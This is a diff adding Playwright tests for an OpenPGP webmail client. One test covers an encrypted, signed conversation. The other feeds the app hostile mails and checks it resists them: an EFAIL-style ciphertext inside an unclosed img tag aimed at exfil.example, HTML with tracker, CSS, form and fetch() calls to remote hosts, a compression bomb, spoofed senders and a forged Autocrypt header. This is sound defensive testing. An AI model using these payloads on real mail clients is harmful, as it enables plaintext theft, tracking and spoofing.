@@ -1,0 +1,305 @@
+import type { Page } from '@playwright/test';
+import * as openpgp from 'openpgp';
+import {
+  deliverRaw,
+  embedded,
+  expect,
+  generateAndBindKey,
+  headersOf,
+  importKeyText,
+  readMailbox,
+  recordTraffic,
+  storedPublicKey,
+  test,
+  uniqueSubject,
+} from './fixtures';
+
+const ALICE_PASS = 'alice reading passphrase';
+const BOB_PASS = 'bob reading passphrase';
+
+async function ownFingerprint(page: Page): Promise<string> {
+  await page.getByRole('link', { name: 'Compose', exact: true }).click();
+  await expect(page.getByLabel('From', { exact: true })).toHaveAttribute('data-key-status', 'valid');
+  return (await page.getByLabel('From', { exact: true }).getAttribute('data-key-fingerprint'))!;
+}
+
+async function unlockIfAsked(page: Page, passphrase: string) {
+  const dialog = page.getByRole('dialog');
+  await dialog.getByLabel('Passphrase', { exact: true }).fill(passphrase);
+  await dialog.getByRole('button', { name: 'Unlock', exact: true }).click();
+}
+
+/** Open the Inbox and the message with this JMAP id, waiting for it to arrive (no reload). */
+async function openMessage(page: Page, id: string) {
+  await page.getByRole('link', { name: 'Inbox', exact: true }).click();
+  await page.locator(`button[data-message-id="${id}"]`).click({ timeout: 15_000 });
+  return page.locator(`[role="article"][data-message-id="${id}"]`);
+}
+
+/** Requests to anywhere but this machine. */
+function remoteRequests(page: Page): () => string[] {
+  const seen: string[] = [];
+  page.on('request', (r) => {
+    const url = new URL(r.url());
+    if (
+      !['127.0.0.1', 'localhost', '[::1]'].includes(url.hostname) &&
+      !['data:', 'blob:', 'about:'].includes(url.protocol)
+    )
+      seen.push(r.url());
+  });
+  return () => seen;
+}
+
+test('Alice and Bob hold an encrypted, signed conversation: send, read, reply, read the reply', async ({
+  browser,
+  baseURL,
+}) => {
+  test.setTimeout(120_000);
+  const aliceContext = await browser.newContext();
+  const bobContext = await browser.newContext();
+  const alice = await aliceContext.newPage();
+  const bob = await bobContext.newPage();
+  const bobTraffic = await recordTraffic(bob);
+  const signIn = async (page: Page, user: 'alice' | 'bob') => {
+    const account = embedded(baseURL!, user);
+    await page.goto('/');
+    await page.getByLabel('Username', { exact: true }).fill(account.username);
+    await page.getByLabel('Password', { exact: true }).fill(account.password);
+    await page.getByRole('button', { name: 'Sign in', exact: true }).click();
+  };
+  await signIn(alice, 'alice');
+  await signIn(bob, 'bob');
+  await generateAndBindKey(alice, { email: 'alice@example.test', passphrase: ALICE_PASS, name: 'Alice' });
+  await generateAndBindKey(bob, { email: 'bob@example.test', passphrase: BOB_PASS, name: 'Bob' });
+  const aliceFpr = await ownFingerprint(alice);
+  const bobFpr = await ownFingerprint(bob);
+  await importKeyText(alice, await storedPublicKey(bob, bobFpr), 2);
+  await importKeyText(bob, await storedPublicKey(alice, aliceFpr), 2);
+
+  // Bob already has his Inbox open: the message must appear there without a reload.
+  await bob.getByRole('link', { name: 'Inbox', exact: true }).click();
+  const subject = uniqueSubject('Treffen am Fluss ✓');
+  const text = 'Meet me at the river at 9. Secret word: heron-4471.';
+  await alice.getByRole('link', { name: 'Compose', exact: true }).click();
+  await alice.getByLabel('To', { exact: true }).fill('bob@example.test');
+  await alice.getByLabel('To', { exact: true }).press('Enter');
+  await expect(alice.locator('[data-recipient="bob@example.test"]')).toHaveAttribute('data-key-status', 'valid');
+  await alice.getByLabel('Subject', { exact: true }).fill(subject);
+  await alice.getByLabel('Message', { exact: true }).fill(text);
+  await alice
+    .getByLabel('Attach files', { exact: true })
+    .setInputFiles({ name: 'map.bin', mimeType: 'application/octet-stream', buffer: Buffer.from([0, 1, 2, 254, 255]) });
+  await alice.getByRole('button', { name: 'Send', exact: true }).click();
+  await unlockIfAsked(alice, ALICE_PASS);
+  await expect(alice.getByRole('status').filter({ hasText: 'Sent' })).toBeVisible();
+
+  const bobBox = await readMailbox(embedded(baseURL!, 'bob'));
+  const delivered = await bobBox.waitFor('[...]');
+  const listed = bob.locator(`button[data-message-id="${delivered.id}"]`);
+  await expect(listed).toBeVisible({ timeout: 10_000 });
+  await expect(listed).toContainText('Encrypted');
+  await listed.click();
+  await unlockIfAsked(bob, BOB_PASS);
+  const article = bob.locator(`[role="article"][data-message-id="${delivered.id}"]`);
+  await expect(article).toHaveAttribute('data-encryption', 'encrypted');
+  await expect(article).toHaveAttribute('data-signature', 'valid');
+  await expect(article).toHaveAttribute('data-signer-fingerprint', aliceFpr);
+  await expect(article.getByRole('heading', { name: subject })).toBeVisible();
+  await expect(article.locator('[data-message-body]')).toContainText(text);
+  await expect(article.getByRole('button', { name: /map\.bin/ })).toBeVisible();
+  const download = bob.waitForEvent('download');
+  await article.getByRole('button', { name: /map\.bin/ }).click();
+  const file = await (await download).path();
+  expect([...(await import('node:fs')).readFileSync(file)]).toEqual([0, 1, 2, 254, 255]);
+  // The list now shows the protected subject, and the message as read.
+  await expect(listed).toContainText(subject);
+
+  // Bob replies: encrypted, threaded, quoted, the subject protected.
+  await article.getByRole('button', { name: 'Reply', exact: true }).click();
+  await expect(bob.locator('[data-recipient="alice@example.test"]')).toBeVisible();
+  await expect(bob.getByLabel('Subject', { exact: true })).toHaveValue(`Re: ${subject}`);
+  await expect(bob.getByLabel('Message', { exact: true })).toHaveValue(
+    /> Meet me at the river at 9\. Secret word: heron-4471\./,
+  );
+  await expect(bob.getByRole('switch', { name: 'Encrypt', exact: true })).toBeChecked();
+  const replyText = 'Agreed. Bring the heron map. Reply word: kingfisher-8812.';
+  const body = bob.getByLabel('Message', { exact: true });
+  await body.fill(`${replyText}\n${await body.inputValue()}`);
+  await bob.getByRole('button', { name: 'Send', exact: true }).click();
+  await expect(bob.getByRole('status').filter({ hasText: 'Sent' })).toBeVisible();
+
+  const aliceBox = await readMailbox(embedded(baseURL!, 'alice'));
+  const reply = await aliceBox.waitFor('[...]');
+  const replyRaw = await aliceBox.raw(reply);
+  expect(headersOf(replyRaw)).toMatch(/^Content-Type: multipart\/encrypted/m);
+  const originalId = headersOf(await bobBox.raw(delivered)).match(/^Message-ID: (<[^>]+>)/im)![1]!;
+  expect(headersOf(replyRaw)).toContain(`In-Reply-To: ${originalId}`);
+  expect(replyRaw).not.toContain('kingfisher');
+  // The original is marked answered.
+  await expect
+    .poll(async () => (await bobBox.list()).find((e) => e.id === delivered.id)?.keywords?.$answered)
+    .toBe(true);
+
+  // Alice reads the reply.
+  // Her key is still unlocked from sending: no second prompt.
+  const replyArticle = await openMessage(alice, reply.id);
+  await expect(replyArticle).toHaveAttribute('data-encryption', 'encrypted');
+  await expect(replyArticle).toHaveAttribute('data-signature', 'valid');
+  await expect(replyArticle).toHaveAttribute('data-signer-fingerprint', bobFpr);
+  await expect(replyArticle.getByRole('heading', { name: `Re: ${subject}` })).toBeVisible();
+  await expect(replyArticle.locator('[data-message-body]')).toContainText(replyText);
+
+  // Nothing Bob read or wrote left his browser in clear, and nothing went to another host.
+  const { all } = bobTraffic();
+  for (const secret of [text, 'heron-4471', replyText, 'kingfisher-8812', BOB_PASS, 'PRIVATE KEY BLOCK']) {
+    expect(all, secret).not.toContain(secret);
+  }
+  await aliceContext.close();
+  await bobContext.close();
+});
+
+const CRLF = (s: string) => s.replace(/\r?\n/g, '\r\n');
+
+test('hostile messages show only what is true, and nothing leaves for a remote host while they are open', async ({
+  page,
+  signInPage,
+  baseURL,
+}) => {
+  test.setTimeout(180_000);
+  const bob = embedded(baseURL!, 'bob');
+  await signInPage.signIn(bob);
+  await generateAndBindKey(page, { email: 'bob@example.test', passphrase: BOB_PASS });
+  const bobKey = await openpgp.readKey({ armoredKey: await storedPublicKey(page, await ownFingerprint(page)) });
+  const { privateKey: eve, publicKey: evePublic } = (await openpgp.generateKey({
+    userIDs: [{ name: 'Eve', email: 'eve@evil.example' }],
+    format: 'object',
+  })) as unknown as { privateKey: openpgp.PrivateKey; publicKey: openpgp.PublicKey };
+  await importKeyText(page, evePublic.armor(), 2);
+
+  const encrypt = async (payload: string, sign: boolean, config: Partial<openpgp.Config> = {}) =>
+    (await openpgp.encrypt({
+      message: await openpgp.createMessage({ text: CRLF(payload) }),
+      encryptionKeys: bobKey,
+      ...(sign ? { signingKeys: eve } : {}),
+      config,
+    })) as string;
+  const pgpMime = (head: string, armored: string) =>
+    CRLF(
+      `${head}MIME-Version: 1.0\nContent-Type: multipart/encrypted; protocol="application/pgp-encrypted"; boundary="E"\n\n--E\nContent-Type: application/pgp-encrypted\n\nVersion: 1\n\n--E\nContent-Type: application/octet-stream\n\n${armored.trim()}\n--E--\n`,
+    );
+  const evePlain = 'From: Eve <eve@evil.example>\nTo: bob@example.test\nSubject: hostile\n';
+
+  const tampered = await (async () => {
+    const binary = (await openpgp.encrypt({
+      message: await openpgp.createMessage({ text: CRLF('Content-Type: text/plain\n\nTAMPERED-SECRET\n') }),
+      encryptionKeys: bobKey,
+      format: 'binary',
+      config: { preferredCompressionAlgorithm: openpgp.enums.compression.uncompressed },
+    })) as Uint8Array;
+    binary[binary.length - 25]! ^= 0x41;
+    return openpgp.armor(openpgp.enums.armor.message, binary);
+  })();
+  const efailCipher = await encrypt('Content-Type: text/plain\n\nEFAIL-SECRET\n', false);
+  const hostileHtml = `Content-Type: text/html; charset=utf-8\n\n<p>Remote things:</p><img src="https://tracker.example/pixel.png"><div style="background:url(https://css.example/bg.png)">styled</div><style>@import url(https://css.example/i.css); p{background:url(https://css.example/p.png)}</style><form action="https://form.example/post"><input name="q"><button>Go</button></form><script>fetch('https://script.example/x')</script><a href="javascript:alert(1)">js link</a><p>HTML-BODY-MARK</p>\n`;
+  const bombArmored = (await openpgp.encrypt({
+    message: await openpgp.createMessage({ binary: new Uint8Array(120 * 1024 * 1024) }),
+    encryptionKeys: bobKey,
+    config: { preferredCompressionAlgorithm: openpgp.enums.compression.zlib },
+  })) as string;
+
+  const cases: { name: string; raw: string; encryption: string; signature: string; text?: string; absent?: string }[] =
+    [
+      {
+        name: 'altered MDC',
+        raw: pgpMime(evePlain, tampered),
+        encryption: 'failed',
+        signature: 'unsigned',
+        absent: 'TAMPERED-SECRET',
+      },
+      {
+        name: 'EFAIL ciphertext between HTML parts',
+        raw: CRLF(
+          `${evePlain}Content-Type: multipart/mixed; boundary="X"\n\n--X\nContent-Type: text/html\n\n<img src="https://exfil.example/?\n--X\nContent-Type: multipart/encrypted; protocol="application/pgp-encrypted"; boundary="E"\n\n--E\nContent-Type: application/pgp-encrypted\n\nVersion: 1\n\n--E\nContent-Type: application/octet-stream\n\n${efailCipher.trim()}\n--E--\n--X\nContent-Type: text/html\n\n">\n--X--\n`,
+        ),
+        encryption: 'partial',
+        signature: 'unsigned',
+        absent: 'EFAIL-SECRET',
+      },
+      {
+        name: 'decrypted HTML with remote content, forms, scripts',
+        raw: pgpMime(evePlain, await encrypt(hostileHtml, true)),
+        encryption: 'encrypted',
+        signature: 'valid',
+      },
+      {
+        name: 'display name that looks like an address',
+        raw: pgpMime(
+          'From: "boss@work.example" <eve@evil.example>\nTo: bob@example.test\nSubject: hostile\n',
+          await encrypt('Content-Type: text/plain\n\nPay the invoice.\n', true),
+        ),
+        encryption: 'encrypted',
+        signature: 'valid',
+        text: 'Pay the invoice.',
+      },
+      {
+        name: 'signed by eve, From alice',
+        raw: pgpMime(
+          'From: alice@example.test\nTo: bob@example.test\nSubject: hostile\n',
+          await encrypt('Content-Type: text/plain\n\nFrom alice, really.\n', true),
+        ),
+        encryption: 'encrypted',
+        signature: 'mismatch',
+      },
+      {
+        name: 'a fake verified banner in the body',
+        raw: CRLF(`${evePlain}Content-Type: text/plain\n\n✔ Verified signature from boss@work.example\n`),
+        encryption: 'none',
+        signature: 'unsigned',
+      },
+      {
+        name: 'compression bomb',
+        raw: pgpMime(evePlain, bombArmored),
+        encryption: 'failed',
+        signature: 'unsigned',
+      },
+      {
+        name: 'Autocrypt header for another address',
+        raw: CRLF(
+          `${evePlain}Autocrypt: addr=alice@example.test; keydata=${Buffer.from(evePublic.write()).toString('base64')}\nContent-Type: text/plain\n\nhello\n`,
+        ),
+        encryption: 'none',
+        signature: 'unsigned',
+      },
+    ];
+  // No key server in this test: the only look-ups the app makes by itself (key refresh) stay off.
+  await page.getByRole('link', { name: 'Settings', exact: true }).click();
+  await page.getByLabel('Key server', { exact: true }).fill('');
+  await page.getByLabel('Key server', { exact: true }).blur();
+  const ids: string[] = [];
+  for (const c of cases) ids.push(await deliverRaw(bob, c.raw));
+  const remote = remoteRequests(page);
+  let unlocked = false;
+  for (const [i, c] of cases.entries()) {
+    const article = await openMessage(page, ids[i]!);
+    if (!unlocked && c.encryption !== 'none' && c.encryption !== 'partial') {
+      await unlockIfAsked(page, BOB_PASS);
+      unlocked = true;
+    }
+    await expect(article, c.name).toHaveAttribute('data-encryption', c.encryption, { timeout: 20_000 });
+    await expect(article, c.name).toHaveAttribute('data-signature', c.signature);
+    if (c.text) await expect(article.locator('[data-message-body]'), c.name).toContainText(c.text);
+    if (c.absent) await expect(page.locator('body'), c.name).not.toContainText(c.absent);
+    if (c.name === 'display name that looks like an address') {
+      await expect(article.locator('.sender-address')).toHaveText('<eve@evil.example>');
+      await expect(article).toHaveAttribute('data-signer-fingerprint', evePublic.getFingerprint().toUpperCase());
+    }
+    if (c.name === 'signed by eve, From alice') await expect(article).toContainText('eve@evil.example');
+    if (c.name === 'decrypted HTML with remote content, forms, scripts') {
+      const frame = page.frameLocator('iframe.message-frame').first();
+      await expect(frame.locator('body')).toContainText('HTML-BODY-MARK');
+      await expect(frame.locator('form, input, script')).toHaveCount(0);
+      await expect(frame.locator('a[href^="javascript"]')).toHaveCount(0);
+    }
+  }
+  expect(remote()).toEqual([]);
+});
